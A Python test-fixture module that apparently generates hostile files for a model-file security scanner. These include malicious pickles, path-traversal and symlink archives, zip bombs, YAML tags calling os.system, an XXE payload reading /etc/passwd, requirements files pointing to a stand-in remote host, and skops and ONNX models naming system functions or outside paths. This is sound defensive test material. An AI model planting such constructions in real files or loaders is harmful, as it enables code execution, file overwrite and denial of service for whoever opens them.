"""Malicious files of every other kind, made here: archives, arrays, tensors, documents, skops. None is ever loaded or unpacked."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import hostile_instances
import hostile_pickles
from hostile_pickles import MALICIOUS, direct, obfuscated


def corpus() -> dict[str, bytes]:
    """Every malicious file, by its name; the name fits the content where the content is what is wrong."""
    instances = {f"i-{name}": data for name, data in hostile_instances.pickles().items()}
    pickles = {**direct(), **{f"o-{name}": data for name, data in obfuscated().items()}, **instances}
    named = {f"{_plain(name)}.pkl": data for name, data in pickles.items()}
    return {**named, **packed(), **zips(), **tars(), **arrays(), **documents(), **skops(), **graphs()}


def _plain(name: str) -> str:
    return "".join(sign if sign.isalnum() or sign in "._-" else "_" for sign in name)


def packed() -> dict[str, bytes]:
    """The payload in compressed streams, as joblib writes them, and under wrong names."""
    return {
        "zlib.joblib": zlib.compress(MALICIOUS),
        "zlib.pkl": zlib.compress(MALICIOUS, 9),
        "gzip.pkl": gzip.compress(MALICIOUS),
        "bz2.pkl": bz2.compress(MALICIOUS),
        "xz.pkl": lzma.compress(MALICIOUS),
        "lzma.pkl": lzma.compress(MALICIOUS, format=lzma.FORMAT_ALONE),
        "twice.pkl.gz": gzip.compress(gzip.compress(MALICIOUS)),
        "gzip_bomb.gz": gzip.compress(bytes(50 << 20)),
        "wrong_ending.txt": MALICIOUS,
        "wrong_ending.json": b"cposix\nsystem\n(S'true'\ntR.",
        "wrong_ending.yaml": b"cposix\nsystem\n(S'true'\ntR",
        "wrong_ending.csv": b"cposix\nsystem\n(S'true'\ntR.",
        "wrong_ending.safetensors": MALICIOUS,
        "wrong_ending.onnx": MALICIOUS,
        "wrong_ending.skops": MALICIOUS,
        "wrong_ending.npy": MALICIOUS,
        "wrong_ending.ubj": MALICIOUS,
        "wrong_ending.parquet": MALICIOUS,
        "wrong_ending.bin": MALICIOUS,
        "wrong_ending.pt": MALICIOUS,
        "no_ending": MALICIOUS,
        "seven.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + MALICIOUS,
        "zstd.pkl": b"\x28\xb5\x2f\xfd" + MALICIOUS,
        "old_torch.pkl": _old_torch(),
    }


def _old_torch() -> bytes:
    """torch.save before zip: a magic number, a version, the system, then the payload."""
    import pickle

    return b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})) + MALICIOUS


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """Make a well-formed zip file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zips() -> dict[str, bytes]:
    """Zip files that hold the payload, or say two things of it."""
    torch = zipped({"archive/data.pkl": MALICIOUS, "archive/version": b"3\n"})
    deflated = zipped({"archive/data.pkl": MALICIOUS * 20}, zipfile.ZIP_DEFLATED)
    nested = zipped({"a.zip": zipped({"b.zip": zipped({"c.zip": zipped({"d.zip": zipped({"e.pkl": MALICIOUS})})})})})
    directory = torch.find(b"PK\x01\x02")
    return {
        "torch.pt": torch,
        "torch_named.skops": torch,
        "plain.zip": zipped({"model.pkl": MALICIOUS}),
        "without_pickle_ending.zip": zipped({"model.weights": b"cposix\nsystem\n(S'true'\ntR."}),
        "bad_crc.pt": _patched(torch, torch.find(b"PK\x03\x04") + 14, b"\0\0\0\0", directory + 16),
        "bad_crc_deflated.pt": _patched(deflated, 14, b"\1\2\3\4", deflated.find(b"PK\x01\x02") + 16),
        "encrypted_flag.pt": _patched(torch, 6, b"\x01\x00", directory + 8),
        "encrypted_flag_in_one_header.pt": torch[:6] + b"\x01\x00" + torch[8:],
        "unknown_flag.pt": _patched(torch, 6, b"\x20\x00", directory + 8),
        "unknown_method.pt": _patched(torch, 8, b"\x63\x00", directory + 10),
        "two_names.pt": torch[: directory + 46] + torch[directory + 46 :].replace(b"archive/data.pkl", b"archive/data.txt", 1),
        "two_members_of_a_name.zip": _twice(),
        "bytes_before.zip": b"#!/bin/sh\n" + zipped({"model.pkl": MALICIOUS}),
        "bytes_behind.skops": zipped({"schema.json": b"{}"}) + b"behind",
        "second_archive_behind.npz": zipped({"a.npy": array("<i8", 1)}) + zipped({"a.pkl": MALICIOUS}),
        "upwards.zip": zipped({"../../etc/cron.d/x": b"* * * * *"}),
        "absolute.zip": zipped({"/etc/cron.d/x": b"* * * * *"}),
        "backslash.zip": zipped({"..\\x": b"x"}),
        "link.zip": _linked(),
        "bomb.npz": zipped({"a.npy": array("<i8", 6 << 20)}, zipfile.ZIP_DEFLATED),
        "bomb.zip": zipped({"a.txt": bytes(64 << 20)}, zipfile.ZIP_DEFLATED),
        "nested.zip": nested,
        "overlapping.zip": _overlapping(),
        "lambda.keras": zipped({"config.json": b'{"config": {"layers": [{"class_name": "Lambda"}]}}', "metadata.json": b"{}"}),
        "objects.npz": zipped({"a.npy": array("|O", 1, MALICIOUS)}),
        "pickle_in.npz": zipped({"a.npy": MALICIOUS}),
        "streamed_without_description.zip": _patched(
            zipped({"a.txt": b"x"}), 6, b"\x08\x00", zipped({"a.txt": b"x"}).find(b"PK\x01\x02") + 8
        ),
    }


def _patched(data: bytes, local: int, new: bytes, central: int) -> bytes:
    """Replace a field in the first local header and in the first entry of the directory."""
    changed = bytearray(data)
    changed[local : local + len(new)] = new
    changed[central : central + len(new)] = new
    return bytes(changed)


def _twice() -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("a.json", b"{}")
        archive.writestr("a.json", MALICIOUS)
    return buffer.getvalue()


def _linked() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _overlapping() -> bytes:
    """Two entries of the directory that share one member's bytes: the way of https://www.bamsoftware.com/hacks/zipbomb/."""
    one = zipped({"a.txt": b"x" * 1000, "b.txt": b"y" * 1000})
    second = one.find(b"PK\x01\x02", one.find(b"PK\x01\x02") + 4)
    return one[: second + 42] + struct.pack("<I", 0) + one[second + 46 :]


def tarred(*infos: tuple[str, Callable[[tarfile.TarInfo], None]]) -> bytes:
    """Make a tar archive of members, each changed by a function."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, change in infos:
            info = tarfile.TarInfo(name)
            change(info)
            archive.addfile(info, io.BytesIO(bytes(info.size)))
    return buffer.getvalue()


def _kind(kind: bytes, target: str = "") -> Callable[[tarfile.TarInfo], None]:
    def change(info: tarfile.TarInfo) -> None:
        info.type, info.linkname = kind, target

    return change


def tars() -> dict[str, bytes]:
    """Tar archives as attacks on who unpacks them."""
    plain, link = _kind(tarfile.REGTYPE), _kind(tarfile.SYMTYPE, "/tmp")
    attacks = {
        "symlink_then_write.tar": tarred(("out", link), ("out/x", plain)),
        "absolute.tar": tarred(("/etc/cron.d/x", plain)),
        "upwards.tar": tarred(("a/../../x", plain)),
        "hard_link.tar": tarred(("x", _kind(tarfile.LNKTYPE, "/etc/passwd"))),
        "device.tar": tarred(("x", _kind(tarfile.CHRTYPE))),
        "fifo.tar": tarred(("x", _kind(tarfile.FIFOTYPE))),
        "harmless.tar": tarred(("x", plain)),
        "truncated.tar": tarred(("x", plain))[:300],
    }
    return attacks | {f"{name}.gz": gzip.compress(data) for name, data in list(attacks.items())[:3]}


def array(kind: str, count: int, data: bytes | None = None) -> bytes:
    """Make a .npy file of zeros, or with other data behind its header."""
    header = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': ({count},), }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + (bytes(8 * count) if data is None else data)


def arrays() -> dict[str, bytes]:
    """Arrays of objects, and tensors whose header lies."""
    structured = array("<i8", 1).replace(b"'<i8'", b"[('a', '|O')]")
    overlapping = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "b": {"dtype": "F32", "shape": [1], "data_offsets": [2, 6]}}
    outside = {"a": {"dtype": "F32", "shape": [9], "data_offsets": [0, 36]}}
    return {
        "objects.npy": array("|O", 1, MALICIOUS),
        "objects_structured.npy": structured,
        "expression.npy": array("<i8", 1).replace(b"(1,)", b"f()"),
        "overlapping.safetensors": tensors(overlapping, 6),
        "outside.safetensors": tensors(outside, 4),
        "behind.safetensors": tensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, 4 + len(MALICIOUS)),
        "endless.safetensors": struct.pack("<Q", 1 << 60) + b"{",
        "keras.h5": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}',
        "library.so": b"\x7fELF\x02\x01\x01" + bytes(50),
        "compiled.pyc": b"\xa7\r\r\n" + bytes(20),
        "noise.bin": b"\xff\xfe\xfd" * 20,
    }


def tensors(header: dict[str, object], size: int) -> bytes:
    """Make a safetensors file with this header."""
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + bytes(size)


def documents() -> dict[str, bytes]:
    """Texts that are more than text to who reads them."""
    return {
        "apply.yaml": b"a: !!python/object/apply:os.system [true]\n",
        "new.yml": b"!!python/object/new:type {args: [z, !!python/tuple [], {}]}\n",
        "name.yaml": b"a: !!python/name:os.system ''\n",
        "tag.yaml": b"a: !<tag:yaml.org,2002:python/module:os> ''\n",
        "deep.yaml": b"[" * 5000,
        "index/requirements.txt": b"numpy\n--index-url http://203.0.113.1/simple\n",
        "url/requirements.txt": b"numpy @ https://203.0.113.1/numpy.whl\n",
        "git/requirements.txt": b"git+https://203.0.113.1/numpy\n",
        "path/requirements.txt": b"./wheels/numpy.whl\n",
        "editable/constraints.txt": b"-e ../src\n",
        "startup.py": b"import os\nos.system('true')\n",
        "run.sh": b"#!/bin/sh\ntrue\n",
        "site.pth": b"import os; os.system('true')\n",
        "xxe.xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    }


def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    """Make a node of a skops schema."""
    return {"__loader__": loader, "__module__": module, "__class__": name, **more}


def schema(tree: dict[str, object], protocol: object = 2) -> bytes:
    """Make a skops schema."""
    return json.dumps({**tree, "protocol": protocol, "_skops_version": "0.16.0"}).encode()


def _within(inner: dict[str, object]) -> dict[str, object]:
    """Put a node into an estimator's attributes, where it is not the first thing that one sees."""
    attributes = node("DictNode", "builtins", "dict", key_types=node("ListNode", "builtins", "list", content=[]), content={"a": inner})
    return node("ObjectNode", "sklearn.linear_model._base", "LinearRegression", content=attributes)


def skops() -> dict[str, bytes]:
    """Skops files with types and kinds of nodes that no model of scikit-learn has."""
    empty = node("TupleNode", "builtins", "tuple", content=[])
    text = node("JsonNode", "builtins", "str", content='"true"', is_json=True)
    system = node("FunctionNode", "posix", "system")
    plain = node("DictNode", "builtins", "dict", key_types=empty, content={})
    seeded = plain | {"content": {"bit_generator": text | {"content": '"set_bit_generator"'}}}
    trees: dict[str, dict[str, object]] = {
        "methodcaller": node("OperatorFuncNode", "operator", "methodcaller", attrs=node("TupleNode", "builtins", "tuple", content=[text])),
        "function": system,
        "type": node("TypeNode", "subprocess", "Popen"),
        "object": node("ObjectNode", "subprocess", "Popen", content=None),
        "method": node("MethodNode", "builtins", "dict", content={"func": "__class__", "obj": plain}),
        "partial": node("PartialNode", "functools", "partial", content={"func": system, "args": empty, "kwds": empty, "namespace": empty}),
        "reduce": node("ConstructorFromReduceNode", "posix", "system", content=empty),
        "list_of_another_type": node("ListNode", "os", "system", content=[]),
        "dict_of_another_type": node("DictNode", "os", "_Environ", key_types=empty, content={}),
        "set_of_another_type": node("SetNode", "subprocess", "Popen", content=[]),
        "loss": node("LossNode", "posix", "system", __reduce__={"args": empty}, content=empty),
        "array_of_another_type": node("NdArrayNode", "numpy", "load", type="json", content=[], shape=empty),
        "state_of_another_type": node("RandomStateNode", "posix", "system", content=empty),
        "bit_generator": node(
            "RandomGeneratorNode", "numpy.random._generator", "Generator", content={"bit_generator": seeded, "seed_seq": empty}
        ),
        "cached": node("CachedNode", "builtins", "dict"),
        "unknown_loader": node("EvalNode", "builtins", "eval"),
        "loader_of_no_text": node("ObjectNode", "a", "b") | {"__loader__": ["ObjectNode"]},
        "missing_member": node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"),
        "member_outside": node("NdArrayNode", "numpy", "ndarray", type="numpy", file="../1.npy"),
    }
    trees |= {f"i-{_plain(name)}": tree for name, tree in hostile_instances.trees().items()}
    made = {f"{name}.skops": zipped({"schema.json": schema(_within(tree))}) for name, tree in trees.items()}
    one = node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy")
    good = schema(node("JsonNode", "builtins", "str", content="1", is_json=True))
    return made | {
        "old_protocol.skops": zipped({"schema.json": schema(_within(text), 0)}),
        "no_protocol.skops": zipped({"schema.json": schema(_within(text), "2")}),
        "no_json.skops": zipped({"schema.json": b"{"}),
        "stray_pickle.skops": zipped({"schema.json": good, "1.npy": MALICIOUS}),
        "stray_array_of_objects.skops": zipped({"schema.json": schema(one), "1.npy": array("|O", 1, MALICIOUS)}),
        "stray_code.skops": zipped({"schema.json": good, "x.py": b"import os"}),
    }


def _field(number: int, value: bytes) -> bytes:
    length, size = b"", len(value)
    while size > 0x7F:
        length += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + value


def onnx_model(location: str = "", domain: str = "", operator: str = "Add") -> bytes:
    """Make the protobuf of an ONNX model with one operator and one weight, which may lie in another file."""
    entry = _field(1, b"location") + _field(2, location.encode())
    weight = _field(8, b"w") + (_field(13, entry) if location else b"")
    operator_node = _field(4, operator.encode()) + _field(7, domain.encode())
    graph = _field(1, operator_node) + _field(2, b"g") + _field(5, weight)
    return b"\x08\x0a" + _field(7, graph) + _field(8, _field(1, domain.encode()) + b"\x10\x15")


def graphs() -> dict[str, bytes]:
    """ONNX models that reach beyond their folder, or call what is no operator of ONNX."""
    inner = _field(1, _field(5, _field(6, _field(1, _field(4, b"PyOp") + _field(7, b"ai.onnx.contrib")))))
    return {
        "upwards.onnx": onnx_model("../../../etc/passwd"),
        "absolute.onnx": onnx_model("/etc/passwd"),
        "backslash.onnx": onnx_model("..\\..\\secret"),
        "python_operator.onnx": onnx_model(domain="ai.onnx.contrib", operator="PyOp"),
        "hidden_in_a_branch.onnx": b"\x08\x0a" + _field(7, inner),
        "truncated.onnx": onnx_model()[:-3],
        "no_graph.onnx": b"\x08\x0a",
    }


__all__ = ["corpus", "hostile_pickles"]
